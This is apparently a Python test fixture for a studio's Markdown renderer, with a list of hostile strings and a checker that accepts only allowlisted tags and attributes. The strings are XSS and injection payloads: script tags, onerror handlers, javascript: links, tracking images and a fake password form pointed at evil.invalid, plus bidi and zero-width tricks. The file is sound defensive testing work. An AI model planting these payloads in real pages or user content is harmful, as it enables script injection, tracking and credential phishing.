"""Hostile stored text: strings an annotator, an imported file or a model could put in a prompt,
a reply, a rationale or a project's guidelines, to make the studio load, link or run something.

Used by tests/studio/test_render.py (server-side rendering) and
tests/browser/test_hostile_render_browser.py (what a real browser does with the result).
``check_rendered_html`` is the one definition of "safe rendered HTML" both of them apply.
"""

from __future__ import annotations

from html.parser import HTMLParser

# (name, text). Every URL points at a host that does not exist (.invalid), so a leak shows up
# as a request in the browser test rather than a page that happens to load.
HOSTILE: list[tuple[str, str]] = [
    ("escaped backticks", "\\`<img src=https://evil.invalid/beacon.png>\\` and \\`<a href=https://evil.invalid/login>log in</a>\\`"),
    ("escaped backtick pair", "a \\` b <img src=x onerror=alert(1)> c \\` d"),
    ("unclosed fence", "```\n<img src=https://evil.invalid/a.png>\nnever closed"),
    ("nested fences", "````\n```\n</code></pre><img src=https://evil.invalid/b.png>\n```\n````\n<img src=https://evil.invalid/c.png>"),
    ("fence with info string", '```python" onload="alert(1)\nprint(1)\n```'),
    ("inline code closing early", "`` ` `` <script>alert(1)</script> `x"),
    ("entities", "&lt;img src=https://evil.invalid/d.png&gt; &#60;script&#62;alert(1)&#60;/script&#62; &#x3C;b&#x3E;"),
    ("double-encoded entities", "&amp;lt;img src=https://evil.invalid/e.png&amp;gt;"),
    ("javascript link", "[click me](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [y](java&#x09;script:alert(1))"),
    ("data link", "[free](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("vbscript link", "[vb](vbscript:msgbox(1))"),
    ("remote link", "[the bank](https://evil.invalid/phish?u=1&v=2 'Your bank')"),
    ("remote image", '![](https://evil.invalid/pixel.png) ![logo *bold*](http://evil.invalid/logo.png "t")'),
    ("data image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("javascript image", "![x](javascript:alert(1))"),
    ("image inside link", "[![badge](https://evil.invalid/badge.svg)](https://evil.invalid/go)"),
    ("reference link", "Read [the docs][docs] and ![pic][img].\n\n[docs]: https://evil.invalid/docs\n[img]: https://evil.invalid/ref.png"),
    ("autolinks", "<http://evil.invalid/auto> <https://evil.invalid/x> <mailto:a@evil.invalid> <a@evil.invalid> www.evil.invalid"),
    ("raw svg", '<svg onload=alert(1)><image href="https://evil.invalid/s.png"/></svg>'),
    ("iframe", '<iframe src="https://evil.invalid/frame"></iframe>'),
    ("style", "<style>body{background:url(https://evil.invalid/bg.png)} *{display:none}</style>"),
    ("form", '<form action="https://evil.invalid/steal"><input name=password><button>Log in</button></form>'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">'),
    ("base href", '<base href="https://evil.invalid/">'),
    ("link stylesheet", '<link rel=stylesheet href="https://evil.invalid/x.css">'),
    ("css url", '<div style="background-image:url(https://evil.invalid/css.png)">styled</div>'),
    ("mixed-case tags", "<ImG SrC=https://evil.invalid/m.png OnErRoR=alert(1)><ScRiPt>alert(1)</sCrIpT>"),
    ("event handlers", '<b onmouseover=alert(1)>hover</b> <p onclick="alert(1)">click</p>'),
    ("object and embed", '<object data="https://evil.invalid/o"></object><embed src="https://evil.invalid/e">'),
    ("video poster", '<video poster="https://evil.invalid/p.png"><source src="https://evil.invalid/v.mp4"></video>'),
    ("html comment", "<!-- <img src=https://evil.invalid/comment.png> --> visible"),
    ("markdown in html attribute", '<a href="https://evil.invalid/">**bold link**</a>'),
    ("table with html", "| a | b |\n|---|---|\n| <img src=https://evil.invalid/t.png> | [x](https://evil.invalid/t) |"),
    ("heading with html", "# Title <img src=https://evil.invalid/h.png>\n\n## <script>alert(1)</script>"),
    ("bidi override", "Total: \u202e0001$ \u202cdone; \u2066isolate\u2069 and \u202bembed\u202c"),
    ("zero width", "pay\u200bpal.com \u200d\u200c\ufeff\u2060 👨\u200d👩\u200d👧"),
    ("full-width tags", "＜script＞alert(1)＜/script＞ ＜img src=https://evil.invalid/fw.png＞"),
    ("template injection", "${alert(1)} {{constructor.constructor('alert(1)')()}} @children"),
    ("mermaid and latex", '<div class="mermaid">graph TD; A-->B</div> $$\\href{javascript:alert(1)}{x}$$'),
]

# Ordinary Markdown that must still render: (text, a tag that must appear).
ORDINARY: list[tuple[str, str]] = [
    ("**bold** and *italic*", "strong"),
    ("*italic*", "em"),
    ("- one\n- two\n- three", "ul"),
    ("1. first\n2. second", "ol"),
    ("Use `print(1)` here", "code"),
    ("```python\ndef f():\n    return 1\n```", "pre"),
    ("| a | b |\n|---|--:|\n| 1 | 2 |", "table"),
    ("> quoted", "blockquote"),
    ("# Heading", "h1"),
    ("### Small heading", "h3"),
    ("~~gone~~", "s"),
    ("line one\n\n---\n\nline two", "hr"),
]

# Tags any rendered text may hold (studio.render.ALLOWED_TAGS, restated so a change there is a
# deliberate change here too), and the wrappers studio.render puts around it.
ALLOWED_TAGS = {
    "p", "br", "hr", "strong", "em", "s", "del", "code", "pre", "blockquote", "ul", "ol", "li",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
WRAPPER_CLASSES = {"md-text", "md-conversation", "md-turn", "md-role"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def parse(rendered: str) -> _Collector:
    collector = _Collector()
    collector.feed(rendered)
    collector.close()
    return collector


def check_rendered_html(rendered: str) -> list[str]:
    """What is wrong with rendered text, as a list of problems (empty when it is safe).

    Safe: only allowed tags; attributes only on the wrappers (class from WRAPPER_CLASSES,
    dir="auto"); no comments (a parser quirk could reopen them).
    """
    problems = []
    doc = parse(rendered)
    for tag, attrs in doc.elements:
        if tag == "div":
            for name, value in attrs:
                if not ((name == "class" and value in WRAPPER_CLASSES) or (name == "dir" and value == "auto")):
                    problems.append(f"<div {name}={value!r}>")
            if not any(name == "class" for name, _ in attrs):
                problems.append("a <div> that is not a wrapper")
            continue
        if tag not in ALLOWED_TAGS:
            problems.append(f"tag <{tag}>")
        for name, value in attrs:
            problems.append(f"attribute {name}={value!r} on <{tag}>")
    if doc.comments:
        problems.append(f"comments {doc.comments}")
    return problems


def visible_text(rendered: str) -> str:
    return "".join(parse(rendered).text)
